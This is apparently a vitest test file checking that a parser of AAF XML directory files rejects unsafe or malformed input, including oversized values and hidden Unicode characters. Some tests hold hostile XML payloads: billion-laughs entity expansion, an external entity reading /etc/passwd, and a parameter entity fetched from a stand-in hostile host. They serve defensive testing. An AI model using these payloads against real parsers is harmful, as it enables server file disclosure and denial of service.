import { describe, expect, it } from 'vitest'
import { document, loise } from './aaf-xml.ts'
import { readDelta, refusalOf } from './reading.ts'

const laughs = `<?xml version="1.0"?>
<!DOCTYPE ficAlimMENESR [
  <!ENTITY lol "ha">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
]>
<ficAlimMENESR>&lol2;</ficAlimMENESR>`

const refused = (content: string) => refusalOf(readDelta('Eleve', content))

describe('an AAF file is refused', () => {
  it('when its entities would multiply (billion laughs)', async () => {
    const refusal = await refused(laughs)
    expect(refusal).toMatchObject({
      code: 'xml-entities',
      file: 'ENT1DVA-ENTDEMO_Delta_20251006_Eleve_0000.xml',
      line: 2,
    })
    expect(refusal.message).toContain('par sécurité')
  })

  it('when an entity would read a file of the server', async () => {
    const hostile = '<!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><ficAlimMENESR>&x;</ficAlimMENESR>'
    expect((await refused(hostile)).code).toBe('xml-entities')
  })

  it('when an entity comes from elsewhere through a parameter', async () => {
    const hostile = '<!DOCTYPE f [<!ENTITY % x SYSTEM "http://hostile.invalid/x.dtd"> %x;]><ficAlimMENESR/>'
    expect((await refused(hostile)).code).toBe('xml-entities')
  })

  it('when it uses an entity no one declared', async () => {
    expect(await refused(document(loise({ ENTPersonPrenom: 'Lo&iuml;se' })))).toMatchObject({
      code: 'undeclared-entity',
      line: 5,
    })
  })

  it('when it is cut before its end', async () => {
    const whole = document(loise(), loise())
    expect((await refused(whole.slice(0, -30))).code).toBe('truncated-xml')
  })

  it('when tags cross', async () => {
    expect(await refused(document(loise().replace('</attributes>', '')))).toMatchObject({
      code: 'malformed-xml',
      line: 5,
    })
  })

  it('when it is another XML document', async () => {
    const refusal = await refused('<?xml version="1.0"?>\n<GAR-ENT-Eleve/>')
    expect(refusal).toMatchObject({ code: 'not-aaf', line: 2 })
    expect(refusal.message).toContain('GAR-ENT-Eleve')
  })

  it('when it holds elements AAF does not have', async () => {
    expect((await refused(document('<renameRequest/>'))).message).toContain('renameRequest')
    expect((await refused(document('<constructor/>'))).code).toBe('not-aaf')
  })

  it('when one value exceeds 64 kB, in one piece or in several', async () => {
    const long = 'x'.repeat(70_000)
    expect((await refused(document(loise({ ENTPersonPrenom: long })))).code).toBe('value-too-long')
    const pieces = `<![CDATA[${long}]]>`
    expect((await refused(document(loise({ ENTPersonPrenom: pieces })))).code).toBe('value-too-long')
  })

  it('when one entry never stops', async () => {
    const values = Array.from({ length: 50 }, () => 'x'.repeat(60_000))
    expect((await refused(document(loise({ ENTPersonAutresPrenoms: values })))).code).toBe('entry-too-long')
  })

  it('when one entry has values without end, even empty ones', async () => {
    const values = Array.from({ length: 20_000 }, () => '')
    expect((await refused(document(loise({ ENTPersonClasses: values })))).code).toBe('entry-too-long')
  })

  it('when it contains characters XML forbids', async () => {
    expect((await refused(document(loise({ ENTPersonPrenom: 'Lo\u0000se' })))).code).toBe('malformed-xml')
  })
})

describe('what an AAF file says', () => {
  it('may contain the five entities and characters by number', async () => {
    const { records } = await readDelta('Eleve', document(loise({ ENTPersonNom: 'L&apos;H&#244;te &amp; fils' })))
    expect(records[0]).toMatchObject({ familyName: "L'Hôte & fils" })
  })

  it('is rid of characters that hide or reorder what is shown', async () => {
    const { records } = await readDelta('Eleve', document(loise({ ENTPersonPrenom: 'Lo\u202Eïse\u200B  Rose ' })))
    expect(records[0]).toMatchObject({ givenName: 'Loïse Rose' })
  })

  it('may be written on one line', async () => {
    const flat = document(...Array.from({ length: 5000 }, () => loise())).replace(/\n/g, '')
    const { records } = await readDelta('Eleve', flat.replace('?>', '?>\n'))
    expect(records).toHaveLength(5000)
    expect(records.at(-1)?.line).toBe(2)
  })

  it('may name a DTD that is never fetched', async () => {
    const named = document(loise()).replace(
      '<ficAlimMENESR>',
      '<!DOCTYPE ficAlimMENESR SYSTEM "http://dtd.invalid/f.dtd"><ficAlimMENESR>',
    )
    expect((await readDelta('Eleve', named)).records).toHaveLength(1)
  })
})
